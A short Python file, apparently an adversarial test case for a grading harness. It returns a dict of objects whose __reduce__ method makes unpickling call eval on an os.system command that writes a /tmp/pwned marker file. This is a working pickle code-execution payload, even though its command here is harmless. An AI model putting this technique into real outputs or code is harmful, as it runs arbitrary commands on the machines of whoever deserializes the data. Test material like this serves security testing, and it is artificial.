"""Returns an object whose pickle runs code.

loses: 1b
"""

from honest import *


class Bomb(dict):
    def __reduce__(self):
        return (eval, ("__import__('os').system('touch /tmp/pwned')",))


def weight_counts(n, k):
    return {"dense": Bomb(), "locally_connected": Bomb(), "convolution": Bomb()}
